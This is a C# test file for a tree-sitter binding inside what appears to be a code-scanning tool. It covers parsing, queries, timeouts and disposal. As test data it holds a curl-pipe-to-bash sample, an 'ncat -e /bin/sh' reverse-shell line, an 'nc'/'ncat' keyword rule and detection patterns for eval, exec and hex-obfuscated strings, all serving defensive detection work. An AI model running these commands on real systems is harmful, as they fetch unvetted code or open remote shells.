// Tests of the hand-written tree-sitter binding: parsing, errors, deep trees, queries, timeouts, disposal.
using System.Text;
using SkillScan.TreeSitter;
using Xunit;

namespace SkillScan.Tests.TreeSitter;

public class TreeSitterBindingTests
{
    public static TheoryData<TsLanguage, string, string> Samples => new()
    {
        { TsLanguage.JavaScript, "program", "const fs = require('fs');\nfunction run(cmd) { return fs.readFileSync(cmd, 'utf8'); }\nmodule.exports = { run };\n" },
        { TsLanguage.TypeScript, "program", "import { exec } from 'child_process';\nexport function run(cmd: string): Promise<string> {\n  return new Promise((ok) => exec(cmd, (_e, out) => ok(out)));\n}\n" },
        { TsLanguage.Tsx, "program", "export const App = ({ name }: { name: string }) => <div className=\"x\">{name}</div>;\n" },
        { TsLanguage.Python, "module", "import subprocess\n\ndef run(cmd: str) -> str:\n    return subprocess.check_output(cmd, shell=True).decode()\n" },
        { TsLanguage.Bash, "program", "#!/bin/bash\nset -euo pipefail\ncurl -fsSL \"$URL\" | bash\nfor f in *.txt; do echo \"$f\"; done\n" },
    };

    [Theory]
    [MemberData(nameof(Samples))]
    public void EachLanguageParsesItsSample(TsLanguage language, string rootType, string source)
    {
        using TsTree tree = TsParsers.Parse(language, source);
        TsNode root = tree.Root;
        Assert.False(root.IsNull);
        Assert.Equal(rootType, root.Type);
        Assert.False(root.HasError, root.ToSExpression());
        Assert.Equal(0u, root.StartByte);
        Assert.Equal(language, tree.Language);
        Assert.True(root.NamedChildCount > 0);
        Assert.Equal(Encoding.UTF8.GetByteCount(source), (int)root.EndByte);
        Assert.Equal(root.DescendantCount, TsWalk.PreOrder(root).Count());
    }

    [Theory]
    [InlineData(TsLanguage.JavaScript, "function (a, { return ;")]
    [InlineData(TsLanguage.TypeScript, "let x: = ;\nclass {")]
    [InlineData(TsLanguage.Tsx, "const a = <div><span></div>;")]
    [InlineData(TsLanguage.Python, "def f(:\n    return )\n")]
    [InlineData(TsLanguage.Bash, "if then fi; done )")]
    public void SyntaxErrorsGiveATreeWithHasError(TsLanguage language, string source)
    {
        using TsTree tree = TsParsers.Parse(language, source);
        Assert.True(tree.Root.HasError);
        Assert.Contains(TsWalk.PreOrder(tree.Root), n => n.IsError || n.IsMissing);
    }

    [Fact]
    public void EmptyInputParses()
    {
        using TsTree tree = TsParsers.Parse(TsLanguage.Python, Array.Empty<byte>());
        Assert.Equal("module", tree.Root.Type);
        Assert.Equal(0, tree.Root.ChildCount);
    }

    [Fact]
    public void NodeTypesMatchTheNativeNames()
    {
        var inputs = Samples.Select(r => ((TsLanguage)r[0], (string)r[2])).Concat(
        [
            (TsLanguage.JavaScript, "function (a, { return ;"),
            (TsLanguage.Python, "def f(:\n    return )\n"),
            (TsLanguage.Bash, "if then fi; done )"),
            (TsLanguage.Tsx, "const a = <div><span></div>;"),
        ]);
        foreach ((TsLanguage language, string source) in inputs)
        {
            using TsTree tree = TsParsers.Parse(language, source);
            foreach (TsNode node in TsWalk.PreOrder(tree.Root))
            {
                string native = NativeType(node);
                Assert.Equal(native, node.Type);
                Assert.Same(node.Type, node.Type); // cached, not re-decoded
            }
        }

        static unsafe string NativeType(TsNode node) =>
            System.Runtime.InteropServices.Marshal.PtrToStringUTF8((nint)SkillScan.TreeSitter.Interop.Native.ts_node_type(node.Raw))!;
    }

    [Fact]
    public void FieldsChildrenSiblingsParentAndPoints()
    {
        string source = "function greet(name) {\n  return 'hi ' + name;\n}\n";
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, source);
        TsNode fn = tree.Root.NamedChild(0);
        Assert.Equal("function_declaration", fn.Type);
        Assert.Equal("greet", tree.GetText(fn.Field("name")));
        Assert.Equal("greet", fn.Field("name").Text);
        Assert.True(fn.Field("no_such_field").IsNull);
        Assert.Equal("formal_parameters", fn.Field("parameters").Type);

        int nameIndex = Enumerable.Range(0, fn.ChildCount).Single(i => fn.Child(i).Type == "identifier");
        Assert.Equal("name", fn.FieldNameForChild(nameIndex));
        Assert.Null(fn.FieldNameForChild(0)); // the "function" keyword
        Assert.True(fn.Child(999).IsNull);
        Assert.True(fn.Child(-1).IsNull);

        Assert.Equal(fn, fn.Field("name").Parent);
        Assert.True(tree.Root.Parent.IsNull);
        Assert.Equal("formal_parameters", fn.Field("name").NextSibling.Type);
        Assert.Equal("formal_parameters", fn.Field("name").NextNamedSibling.Type);

        TsNode ret = fn.Field("body").NamedChild(0);
        Assert.Equal("return_statement", ret.Type);
        Assert.Equal(new TsPoint(1, 2), ret.StartPoint);
        Assert.Equal(new TsPoint(1, 22), ret.EndPoint);
        Assert.Equal(new TsPoint(2, 1), fn.EndPoint);
        Assert.True(ret.IsNamed);
        Assert.False(ret.Child(0).IsNamed); // "return"
        Assert.Equal("(program (function_declaration name: (identifier) parameters: (formal_parameters (identifier)) body: (statement_block (return_statement (binary_expression left: (string (string_fragment)) right: (identifier))))))",
            tree.Root.ToSExpression());
    }

    /// <summary>The one-call listing must give every node's named children as the node's own enumeration does: a leaf,
    /// nodes with unnamed children between named ones, and a node with more named children than the stack buffer.</summary>
    [Fact]
    public void NamedChildrenInOneCallMatchTheNodesEnumeration()
    {
        string source = "const a = [" + string.Join(", ", Enumerable.Range(0, 100)) + "];\nf(x, /* c */ 'y', ...z);\n";
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, source);
        using TsTreeCursor cursor = tree.Root.Walk();
        var listed = new List<TsNode>();
        int checkedNodes = 0;
        foreach (TsNode node in TsWalk.PreOrder(tree.Root))
        {
            listed.Clear();
            cursor.AddNamedChildren(node, listed);
            Assert.Equal(node.NamedChildren.ToList(), listed);
            checkedNodes++;
        }

        Assert.True(checkedNodes > 200);
        Assert.Contains(TsWalk.PreOrder(tree.Root), n => n.NamedChildCount == 100);
        using TsTree other = TsParsers.Parse(TsLanguage.JavaScript, "x;\n");
        Assert.Throws<ArgumentException>(() => cursor.AddNamedChildren(other.Root, listed));
    }

    [Fact]
    public void CursorWalksWithFieldNames()
    {
        using TsTree tree = TsParsers.Parse(TsLanguage.Python, "x = f(1)\n");
        using TsTreeCursor cursor = tree.Root.Walk();
        Assert.Equal("module", cursor.Current.Type);
        Assert.True(cursor.GotoFirstChild());   // expression_statement
        Assert.True(cursor.GotoFirstChild());   // assignment
        Assert.Equal("assignment", cursor.Current.Type);
        Assert.True(cursor.GotoFirstChild());   // x
        Assert.Equal("left", cursor.FieldName);
        Assert.True(cursor.GotoNextSibling());  // =
        Assert.True(cursor.GotoNextSibling());  // f(1)
        Assert.Equal("right", cursor.FieldName);
        Assert.Equal("call", cursor.Current.Type);
        Assert.Equal(3, cursor.Depth);
        Assert.True(cursor.GotoParent());
        Assert.True(cursor.GotoParent());
        Assert.True(cursor.GotoParent());
        Assert.False(cursor.GotoParent());
        cursor.Dispose();
        cursor.Dispose(); // idempotent
        Assert.Throws<ObjectDisposedException>(() => cursor.Current);
    }

    [Fact]
    public void TextIsDecodedAsUtf8()
    {
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, "const s = \"héllo 🌍\";");
        TsNode str = TsWalk.PreOrder(tree.Root).First(n => n.Type == "string");
        Assert.Equal("\"héllo 🌍\"", tree.GetText(str));
        Assert.True(tree.TextEquals(str, "\"héllo 🌍\""));
        Assert.Equal(Encoding.UTF8.GetByteCount("\"héllo 🌍\""), (int)(str.EndByte - str.StartByte));
    }

    [Theory]
    [InlineData(TsLanguage.JavaScript, "(", "1", ")")]
    [InlineData(TsLanguage.Python, "[", "1", "]")]
    public void TwoHundredThousandLevelsDeepParseAndWalkWithoutStackOverflow(TsLanguage language, string open, string middle, string close)
    {
        const int depth = 200_000;
        string source = new StringBuilder(depth * 2 + 1).Insert(0, open, depth).Append(middle).Append(string.Concat(Enumerable.Repeat(close, depth))).ToString();
        Exception? failure = null;
        int count = 0, maxDepth = 0;
        bool hasError = true;
        string sexpr = "";

        // A small stack proves the walk is iterative (tree-sitter's own parse/delete are iterative as well).
        var thread = new Thread(() =>
        {
            try
            {
                using TsTree tree = TsParsers.Parse(language, source);
                hasError = tree.Root.HasError;
                foreach ((TsNode _, int d) in TsWalk.PreOrderWithDepth(tree.Root))
                {
                    count++;
                    maxDepth = Math.Max(maxDepth, d);
                }

                sexpr = tree.Root.ToSExpression();
            }
            catch (Exception e)
            {
                failure = e;
            }
        }, maxStackSize: 256 * 1024);
        thread.Start();
        thread.Join();

        Assert.Null(failure);
        Assert.False(hasError);
        Assert.Equal(depth * 3 + 3, count);   // per level: the node and its two brackets; plus root, statement, literal
        Assert.True(maxDepth > depth, $"max depth {maxDepth}");
        Assert.StartsWith("(", sexpr);
    }

    [Fact]
    public void TimeoutAbortsTheParseAndTheParserIsReusable()
    {
        byte[] big = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("function f(a, b) { if (a) { return [a, b, {c: a}]; } }\n", 40_000))); // ~2 MB
        var e = Assert.Throws<TsParseTimeoutException>(() => TsParsers.Parse(TsLanguage.JavaScript, big, TimeSpan.FromMilliseconds(1)));
        Assert.Equal(TsLanguage.JavaScript, e.Language);
        Assert.True(e.BytesParsed < big.Length);
        Assert.IsAssignableFrom<TimeoutException>(e);

        // The same thread's parser starts afresh (no resumed half-parse).
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, "let a = 1;", TimeSpan.FromSeconds(10));
        Assert.Equal("(program (lexical_declaration (variable_declarator name: (identifier) value: (number))))", tree.Root.ToSExpression());
    }

    [Fact]
    public void ReusedParsersStartAfreshAfterATimeoutOrCancellation()
    {
        // With ReuseParsers the thread's cached parser must not resume the aborted parse.
        // (Both modes are correct; flipping the global only changes speed for tests running in parallel.)
        bool before = TsParsers.ReuseParsers;
        TsParsers.ReuseParsers = true;
        try
        {
            byte[] big = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("x = [1, 2, {'a': (3, 4)}]\n", 100_000)));
            Assert.Throws<TsParseTimeoutException>(() => TsParsers.Parse(TsLanguage.Python, big, TimeSpan.FromMilliseconds(1)));
            using (TsTree tree = TsParsers.Parse(TsLanguage.Python, "y = 2\n", TimeSpan.FromSeconds(10)))
            {
                Assert.Equal("(module (expression_statement (assignment left: (identifier) right: (integer))))", tree.Root.ToSExpression());
            }

            using var cts = CancelSoon(TimeSpan.FromMilliseconds(5));
            Assert.ThrowsAny<OperationCanceledException>(() => TsParsers.Parse(TsLanguage.Python, big, ct: cts.Token));
            using (TsTree tree = TsParsers.Parse(TsLanguage.Python, "z = 3\n"))
            {
                Assert.Equal("(module (expression_statement (assignment left: (identifier) right: (integer))))", tree.Root.ToSExpression());
            }
        }
        finally
        {
            TsParsers.ReuseParsers = before;
        }
    }

    [Fact]
    public void CancellationAbortsTheParse()
    {
        using var cancelled = new CancellationTokenSource();
        cancelled.Cancel();
        Assert.ThrowsAny<OperationCanceledException>(() => TsParsers.Parse(TsLanguage.Python, "x = 1", ct: cancelled.Token));

        byte[] big = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("def f(a):\n    return [a, {'k': a}, (a, a)]\n", 200_000))); // ~8 MB
        using var cts = CancelSoon(TimeSpan.FromMilliseconds(50));
        Assert.ThrowsAny<OperationCanceledException>(() => TsParsers.Parse(TsLanguage.Python, big, ct: cts.Token));

        using TsTree tree = TsParsers.Parse(TsLanguage.Python, "y = 2\n", ct: new CancellationTokenSource().Token);
        Assert.False(tree.Root.HasError);
        Assert.Equal("(module (expression_statement (assignment left: (identifier) right: (integer))))", tree.Root.ToSExpression());
    }

    [Fact]
    public void NonPositiveTimeoutIsRejected()
    {
        Assert.Throws<ArgumentOutOfRangeException>(() => TsParsers.Parse(TsLanguage.Bash, "ls", TimeSpan.Zero));
        using TsTree tree = TsParsers.Parse(TsLanguage.Bash, "ls", Timeout.InfiniteTimeSpan);
        Assert.False(tree.Root.HasError);
    }

    [Fact]
    public void DisposedTreeThrowsInsteadOfCrashing()
    {
        TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, "a(b)");
        TsNode root = tree.Root;
        tree.Dispose();
        tree.Dispose(); // idempotent
        Assert.True(tree.IsDisposed);
        Assert.Throws<ObjectDisposedException>(() => root.Type);
        Assert.Throws<ObjectDisposedException>(() => root.Child(0));
        Assert.Throws<ObjectDisposedException>(() => tree.Root);
        Assert.Equal(0u, root.StartByte); // stored in the node value itself
    }

    [Fact]
    public void NullNodesAreHarmless()
    {
        TsNode none = default;
        Assert.True(none.IsNull);
        Assert.Equal("", none.Type);
        Assert.Equal(0, none.ChildCount);
        Assert.True(none.Child(0).IsNull);
        Assert.True(none.Parent.IsNull);
        Assert.True(none.Field("name").IsNull);
        Assert.Empty(TsWalk.PreOrder(none));
    }

    [Fact]
    public void ParsersArePerThreadAndParallelParsesAgree()
    {
        string source = "import os\nfor i in range(10):\n    os.system(f'echo {i}')\n";
        string expected;
        using (TsTree t = TsParsers.Parse(TsLanguage.Python, source))
        {
            expected = t.Root.ToSExpression();
        }

        string[] results = new string[64];
        Parallel.For(0, results.Length, new ParallelOptions { MaxDegreeOfParallelism = 4 }, i =>
        {
            using TsTree t = TsParsers.Parse(TsLanguage.Python, source, TimeSpan.FromSeconds(10));
            results[i] = t.Root.ToSExpression();
        });
        Assert.All(results, r => Assert.Equal(expected, r));
    }

    [Fact]
    public void NativeBaselineCountsTheSameNodes()
    {
        byte[] source = Encoding.UTF8.GetBytes("echo hi | grep h && rm -rf \"$TMP\"/x\n");
        using TsTree tree = TsParsers.Parse(TsLanguage.Bash, source);
        Assert.Equal(tree.Root.DescendantCount * 3L, TsParsers.NativeBenchmarkParse(TsLanguage.Bash, source, iterations: 3));
    }

    [Fact]
    public void QueryCompilesAndMatchesWithPredicates()
    {
        const string js = "require('child_process').exec(cmd);\nconst fs = require('fs');\neval(userInput);\nfoo.exec('ls');\n";
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, js);
        using TsQuery query = TsQuery.Compile(TsLanguage.JavaScript, """
            (call_expression
              function: (identifier) @fn
              arguments: (arguments (string (string_fragment) @module))
              (#eq? @fn "require")
              (#match? @module "^(child_process|fs)$")) @require

            (call_expression function: (identifier) @danger (#any-of? @danger "eval" "Function"))

            (call_expression
              function: (member_expression property: (property_identifier) @method)
              (#eq? @method "exec")
              (#not-match? @method "^ex$")) @exec_call
            """);

        Assert.Equal(["fn", "module", "require", "danger", "method", "exec_call"], query.CaptureNames);
        Assert.Equal(3, query.PatternCount);

        List<TsQueryMatch> matches = query.Matches(tree.Root).ToList();
        Assert.Equal(["child_process", "fs"], matches.Where(m => m.PatternIndex == 0).Select(m => m.Get("module").Text));
        Assert.Equal("eval", Assert.Single(matches, m => m.PatternIndex == 1).Get("danger").Text);
        Assert.Equal(2, matches.Count(m => m.PatternIndex == 2));   // .exec(cmd) and foo.exec('ls')
        Assert.All(matches, m => Assert.All(m.Captures, c => Assert.Equal(query.CaptureNames[c.Index], c.Name)));

        using TsQuery notEq = TsQuery.Compile(TsLanguage.JavaScript, "((identifier) @id (#not-eq? @id \"cmd\"))");
        Assert.DoesNotContain(notEq.Matches(tree.Root), m => m.Get("id").Text == "cmd");
        Assert.Contains(notEq.Matches(tree.Root), m => m.Get("id").Text == "userInput");
    }

    [Fact]
    public void QueryOnASubtreeAndCaptureEquality()
    {
        using TsTree tree = TsParsers.Parse(TsLanguage.Python, "a = a\nb = c\n");
        using TsQuery query = TsQuery.Compile(TsLanguage.Python, "((assignment left: (identifier) @l right: (identifier) @r) (#eq? @l @r))");
        TsQueryMatch match = Assert.Single(query.Matches(tree.Root));
        Assert.Equal("a", match.Get("l").Text);
        Assert.Empty(query.Matches(tree.Root.NamedChild(1)));
    }

    [Fact]
    public void TextThePredicatesDemandDecidesWhetherTheQueryRunsAtAll()
    {
        using TsQuery query = TsQuery.Compile(TsLanguage.JavaScript, """
            ((call_expression function: (member_expression object: (identifier) @o property: (property_identifier) @p))
             (#eq? @o "String") (#eq? @p "fromCharCode"))
            ((call_expression function: (identifier) @f) (#any-of? @f "eval" "Function"))
            """);

        Assert.True(query.CanMatchIn("x = String.fromCharCode(1)"u8));
        Assert.True(query.CanMatchIn("new Function('a')"u8));
        Assert.False(query.CanMatchIn("String.raw`x`; y.fromCharCod(1)"u8));   // first pattern needs both names
        Assert.False(query.CanMatchIn("evaluate(x)"u8.Slice(0, 3)));           // only the bytes given count

        // A subtree is searched only within its own bytes, and a match is still found where the text is.
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, "f(1);\neval(s);\n");
        Assert.Empty(query.Matches(tree.Root.NamedChild(0)));
        Assert.Equal("eval", Assert.Single(query.Matches(tree.Root)).Get("f").Text);

        // Predicates that do not demand text: an optional capture, a negative test, a regex, no predicate at all.
        AssertDemandNothing(
            "((call_expression function: (identifier)? @f arguments: (arguments)) (#eq? @f \"eval\"))",
            "((identifier) @id (#not-eq? @id \"eval\"))",
            "((identifier) @id (#match? @id \"^ev\"))",
            "(identifier) @id");
    }

    private static void AssertDemandNothing(params string[] queries)
    {
        foreach (string open in queries)
        {
            using TsQuery q = TsQuery.Compile(TsLanguage.JavaScript, open);
            Assert.True(q.CanMatchIn("x"u8), open);
        }
    }

    [Fact]
    public void ARegexThePredicatesDemandMustMatchSomewhereInTheSource()
    {
        // SS1406's shape: a string of eight hex escapes. A file without such a run cannot hold such a string.
        using TsQuery query = TsQuery.Compile(TsLanguage.JavaScript, """((string) @s (#match? @s "(\\\\x[0-9a-fA-F]{2}){8,}"))""");
        Assert.False(query.CanMatchIn("var s = 'hello \\x41';\n"u8));
        Assert.True(query.CanMatchIn("var s = '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20';\n"u8));

        // Where such a string is, the query still finds it.
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, "a('x'); b('\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20');\n");
        Assert.Equal("'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20'", Assert.Single(query.Matches(tree.Root)).Get("s").Text);

        // Negative and any-capture forms, and a regex that looks outside its match, demand nothing of the source.
        AssertDemandNothing(
            "((string) @s (#not-match? @s \"zz\"))",
            "((call_expression function: (identifier)? @f) (#match? @f \"zz\"))",
            "((string) @s (#match? @s \"^'zz\"))",
            "((string) @s (#match? @s \"zz\\\\b\"))",
            "((string) @s (#match? @s \"(?<=a)zz\"))",
            "((string) @s (#match? @s \"(z)\\\\1\"))");
    }

    [Theory]
    [InlineData("((identifier) @id (#eq? @id \"eval\"))")]
    [InlineData("((call_expression function: (member_expression object: (identifier) @o property: (property_identifier) @p))\n (#eq? @o \"String\") (#eq? @p \"fromCharCode\"))\n((call_expression function: (identifier) @f) (#any-of? @f \"eval\" \"Function\"))")]
    [InlineData("((call_expression function: (identifier)? @f arguments: (arguments)) (#eq? @f \"eval\"))")]
    [InlineData("((call_expression function: (identifier) @f)* (#eq? @f \"eval\"))")]
    [InlineData("((call_expression function: (identifier) @f)+ (#eq? @f \"eval\"))")]
    [InlineData("((call_expression function: (identifier) @f) @c ? (#eq? @f \"eval\"))")]
    [InlineData("(call_expression function: [(identifier) @f (member_expression property: (property_identifier) @f)] (#eq? @f \"exec\"))")]
    [InlineData("(call_expression function: [(identifier) @f (member_expression) @m] (#eq? @f \"exec\") (#eq? @m \"a.b\"))")]
    [InlineData("[((identifier) @x (#eq? @x \"a\")) ((string) @x (#match? @x \"b{3}\"))]")]
    [InlineData("; a comment (#eq? @x \"no\")\n((identifier) @x . (#not-eq? @x \"a\") (#eq? @x \"b\"))")]
    [InlineData("(call_expression function: (_) @o !optional_chain arguments: (arguments) @p (#eq? @o \"exec\"))")]
    [InlineData("((string) @s (#match? @s \"(\\\\\\\\x[0-9a-fA-F]{2}){8,}\"))")]
    [InlineData("((string) @s (#match? @s \"\\\"q\\\"\\tz\\.w\"))")]
    [InlineData("((string) @s (#match? @s \"^'zz\"))")]
    [InlineData("((string) @s (#eq? @s bare-word))")]
    [InlineData("((identifier) @a (identifier) @b (#eq? @a @b))")]
    [InlineData("((identifier) @a (#set! kind \"x\") (#any-of? @a \"p\" \"q\"))")]
    [InlineData("(identifier) @id")]
    public void APreconditionReadFromTheQueryTextIsTheCompiledOne(string source)
    {
        using TsQuery compiled = TsQuery.Compile(TsLanguage.JavaScript, source);
        Assert.Equal(compiled.Precondition.Describe(), TsQueryPrecondition.FromSource(source).Describe());
    }

    [Theory]
    [InlineData("((identifier) @a (#eq? @a \"x\")")]     // unbalanced
    [InlineData("((identifier) @a (#eq? @b \"x\"))")]    // unknown capture
    [InlineData("((identifier) @a (#eq? @a \"x\nq\"))")] // a newline inside a string
    [InlineData("((identifier) @a (#frob? @a \"x\"))")]   // unknown predicate
    [InlineData("")]
    public void AQueryTextTheReaderCannotFollowRulesNothingOut(string source) =>
        Assert.True(TsQueryPrecondition.FromSource(source).CanMatchIn("nothing here"u8));

    [Fact]
    public void APreconditionReadFromTextRulesOutWhatTheCompiledOneRulesOut()
    {
        var fromText = TsQueryPrecondition.FromSource("((command name: (command_name) @n) (#any-of? @n \"nc\" \"ncat\"))");
        Assert.False(fromText.CanMatchIn("ls -la\n"u8));
        Assert.True(fromText.CanMatchIn("ncat -e /bin/sh host 4444\n"u8));
    }

    [Theory]
    [InlineData("[^a-z]{3}", true)]
    [InlineData("[]^$]x", true)]
    [InlineData("a\\$b", true)]
    [InlineData("a|b$", false)]
    [InlineData("\\bfoo", false)]
    [InlineData("[\\b]foo", true)]     // in a class, \b is a backspace
    [InlineData("(?!x)y", false)]
    [InlineData("(?<name>x)", true)]
    [InlineData("(?<!x)y", false)]
    [InlineData("(x)\\1", false)]
    [InlineData("\\0", true)]
    public void ARegexLooksOnlyAtItsMatchWithoutAnchorsBoundariesLookaroundsOrBackreferences(string pattern, bool expected) =>
        Assert.Equal(expected, TsQuery.RegexLooksOnlyAtItsMatch(pattern));

    [Theory]
    [InlineData("(call_expression", TsQueryErrorKind.Syntax, 16, 1, 17)]
    [InlineData("(call_expresion) @x", TsQueryErrorKind.NodeType, 1, 1, 2)]
    [InlineData("(call_expression\n  functon: (identifier))", TsQueryErrorKind.Field, 19, 2, 3)]
    [InlineData("((identifier) @a (#eq? @b \"x\"))", TsQueryErrorKind.Capture, 24, 1, 25)]
    [InlineData("(identifier (identifier))", TsQueryErrorKind.Structure, 12, 1, 13)]
    [InlineData("((identifier) @a (#frobnicate? @a))", TsQueryErrorKind.Predicate, 18, 1, 19)]
    [InlineData("(call_expression)\n((identifier) @a (#match? @a \"(\"))", TsQueryErrorKind.Predicate, 36, 2, 19)]
    public void BadQueriesThrowWithKindAndPosition(string source, TsQueryErrorKind kind, int offset, int line, int column)
    {
        var e = Assert.Throws<TsQueryException>(() => TsQuery.Compile(TsLanguage.JavaScript, source));
        Assert.Equal(kind, e.ErrorKind);
        Assert.Equal(offset, e.Offset);
        Assert.Equal(line, e.Line);
        Assert.Equal(column, e.Column);
        Assert.Contains($"line {line}, column {column}", e.Message);
    }

    [Fact]
    public void QueriesOnHostileDeepTreesAreBoundedByTimeoutAndToken()
    {
        // tree-sitter's query engine is O(nodes x live states): a pattern with nested nodes on a 20,000-deep tree
        // would run for minutes. The budget is enforced inside the native search.
        string deep = new string('(', 20_000) + "f(1)" + new string(')', 20_000);
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, deep);
        using TsQuery nested = TsQuery.Compile(TsLanguage.JavaScript, "(parenthesized_expression (parenthesized_expression (call_expression) @c))");

        var e = Assert.Throws<TsQueryTimeoutException>(() => nested.Matches(tree.Root, TimeSpan.FromMilliseconds(200)).ToList());
        Assert.Equal(TsLanguage.JavaScript, e.Language);

        using var cts = CancelSoon(TimeSpan.FromMilliseconds(200));
        Assert.ThrowsAny<OperationCanceledException>(() => nested.Matches(tree.Root, cts.Token).ToList());

        // The same query with a budget on a normal tree finds its match.
        using TsTree small = TsParsers.Parse(TsLanguage.JavaScript, "((f(1)));");
        Assert.Single(nested.Matches(small.Root, TimeSpan.FromSeconds(10)));
    }

    [Fact]
    public void QueriesPastDepth65535DoNotHang()
    {
        // tree-sitter 0.25.1 stores a query state's start depth in 16 bits; the binding caps pattern starts at
        // TsQuery.DepthLimit (60,000) so the cursor never wraps. Deeper nodes are not match starts.
        string deep = new string('(', 70_000) + "f(1)" + new string(')', 70_000);
        using TsTree tree = TsParsers.Parse(TsLanguage.JavaScript, deep);
        Assert.True(TsWalk.MaxDepth(tree.Root) > 70_000);
        using TsQuery query = TsQuery.Compile(TsLanguage.JavaScript, "(parenthesized_expression) @p");
        int count = query.Matches(tree.Root, TimeSpan.FromSeconds(30)).Count();
        Assert.InRange(count, 59_000, (int)TsQuery.DepthLimit);
    }

    [Fact]
    public void QueryRejectsNodesOfAnotherLanguage()
    {
        using TsTree tree = TsParsers.Parse(TsLanguage.Python, "x = 1");
        using TsQuery query = TsQuery.Compile(TsLanguage.JavaScript, "(identifier) @id");
        Assert.Throws<ArgumentException>(() => query.Matches(tree.Root));
    }

    /// <summary>
    /// A token cancelled from a dedicated thread. CancellationTokenSource(TimeSpan) fires on the thread pool, which a
    /// loaded parallel test run can starve for seconds; the tests assert that cancellation aborts the work, not timing.
    /// </summary>
    private static CancellationTokenSource CancelSoon(TimeSpan delay)
    {
        var cts = new CancellationTokenSource();
        new Thread(() => { Thread.Sleep(delay); cts.Cancel(); }) { IsBackground = true }.Start();
        return cts;
    }
}
